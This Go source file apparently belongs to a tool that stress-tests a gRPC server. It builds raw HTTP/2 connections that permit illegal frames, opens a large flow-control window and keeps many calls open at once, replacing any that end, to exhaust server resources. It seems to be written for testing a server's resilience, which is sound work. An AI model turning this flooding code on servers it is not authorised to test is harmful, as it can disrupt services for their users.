package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// writePatience bounds how long a server may leave what an attacker sends.
const writePatience = 30 * time.Second

// link is a connection of HTTP/2 that sends any frame at any time, as no gRPC
// library would.
type link struct {
	conn net.Conn

	mu      sync.Mutex
	out     *bufio.Writer  // guarded by mu
	framer  *http2.Framer  // its writing side guarded by mu
	encoder *hpack.Encoder // guarded by mu
	block   bytes.Buffer   // guarded by mu
	next    uint32         // guarded by mu; the id of the next call

	liveMu sync.Mutex
	live   map[uint32]bool // guarded by liveMu; calls that the server has not ended

	tally *tally
	ended chan struct{} // closed when the server has ended the connection
}

// link connects and sends the settings. The connection can receive 1 GiB without
// a further word; a call as much as the settings allow.
func (a *attacker) link(ctx context.Context, settings ...http2.Setting) (*link, error) {
	l, err := a.deafLink(ctx, net.Dialer{}, settings...)
	if err == nil {
		go l.receive()
	}
	return l, err
}

// deafLink is a link that receives nothing, not even the end of the connection.
func (a *attacker) deafLink(ctx context.Context, dialer net.Dialer, settings ...http2.Setting) (*link, error) {
	if err := a.dials.Wait(ctx); err != nil {
		return nil, err
	}
	conn, err := a.connect(ctx, dialer)
	if err != nil {
		return nil, err
	}
	l := &link{conn: conn, out: bufio.NewWriterSize(conn, 64<<10), next: 1, live: make(map[uint32]bool), tally: a.tally, ended: make(chan struct{})}
	l.framer = http2.NewFramer(l.out, bufio.NewReader(conn))
	l.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	l.framer.AllowIllegalWrites = true
	l.encoder = hpack.NewEncoder(&l.block)
	l.out.WriteString(http2.ClientPreface)
	l.framer.WriteSettings(settings...)
	l.framer.WriteWindowUpdate(0, 1<<30)
	if err := l.flush(); err != nil {
		conn.Close()
		return nil, err
	}
	a.tally.count("connections")
	return l, nil
}

func (l *link) close() { l.conn.Close() }

// receive answers what must be answered, and drops the rest.
func (l *link) receive() {
	defer close(l.ended)
	defer l.conn.Close()
	for {
		frame, err := l.framer.ReadFrame()
		if err != nil {
			return
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				go l.write(func() error { return l.framer.WriteSettingsAck() })
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				data := f.Data
				go l.write(func() error { return l.framer.WritePing(true, data) })
			}
		case *http2.MetaHeadersFrame:
			if f.StreamEnded() && l.over(f.StreamID) {
				l.tally.countStatus(f)
			}
		case *http2.RSTStreamFrame:
			if l.over(f.StreamID) {
				l.tally.count(f.ErrCode.String())
			}
		case *http2.GoAwayFrame:
			l.tally.count("GOAWAY " + f.ErrCode.String())
		}
	}
}

// over notes that a call has ended, and returns false if that was known.
func (l *link) over(id uint32) bool {
	l.liveMu.Lock()
	defer l.liveMu.Unlock()
	live := l.live[id]
	delete(l.live, id)
	return live
}

// begun notes that a call has begun.
func (l *link) begun(id uint32) {
	l.liveMu.Lock()
	defer l.liveMu.Unlock()
	l.live[id] = true
}

// calls is the number of calls that the server has not ended.
func (l *link) calls() int {
	l.liveMu.Lock()
	defer l.liveMu.Unlock()
	return len(l.live)
}

// write writes by a function and flushes.
func (l *link) write(frames func() error) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if err := frames(); err != nil {
		return err
	}
	return l.flush()
}

// flush sends what was written; l.mu is held, or nobody else has l yet.
func (l *link) flush() error {
	l.conn.SetWriteDeadline(time.Now().Add(writePatience))
	return l.out.Flush()
}

// call is one that an attacker makes: HEADERS, then perhaps a message.
type call struct {
	path    string
	key     string              // empty for none
	headers []hpack.HeaderField // beside the usual ones
	message []byte              // nil for HEADERS alone, which do not end the request
}

// open begins a call, to be flushed; l.mu is held.
func (l *link) open(c call) (id uint32, err error) {
	id = l.next
	l.next += 2
	l.begun(id)
	err = l.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: id, BlockFragment: l.headers(c.path, c.key, c.headers...), EndHeaders: true,
	})
	if err == nil && c.message != nil {
		err = l.framer.WriteData(id, true, framed(c.message))
	}
	return id, err
}

// headers encodes the headers of a call; l.mu is held.
func (l *link) headers(path, key string, more ...hpack.HeaderField) []byte {
	l.block.Reset()
	fields := []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: path},
		{Name: ":authority", Value: "localhost"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	}
	if key != "" {
		fields = append(fields, hpack.HeaderField{Name: "authorization", Value: "Bearer " + key})
	}
	for _, field := range append(fields, more...) {
		l.encoder.WriteField(field)
	}
	return l.block.Bytes()
}

// framed puts the header of gRPC before a message.
func framed(message []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...)
}

// most is the number of calls that a connection makes before its ids run out.
const most = 1 << 29

// keep holds a number of calls open, and opens others in place of those that
// end, until ctx is done or the server ends the connection.
func (l *link) keep(ctx context.Context, a *attacker, calls int, c call) error {
	defer l.close()
	for {
		missing := min(calls-l.calls(), 50)
		if missing <= 0 {
			if err := l.wait(ctx, 100*time.Millisecond); err != nil {
				return err
			}
			continue
		}
		if err := a.pace.WaitN(ctx, missing); err != nil {
			return nil
		}
		err := l.write(func() error {
			for range missing {
				if _, err := l.open(c); err != nil {
					return err
				}
			}
			return nil
		})
		if err != nil || l.next > most {
			return err
		}
	}
}

// wait waits for a time. It fails if the server ends the connection, or with the
// context.
func (l *link) wait(ctx context.Context, d time.Duration) error {
	select {
	case <-l.ended:
		return errEnded
	case <-ctx.Done():
		return ctx.Err()
	case <-time.After(d):
		return nil
	}
}
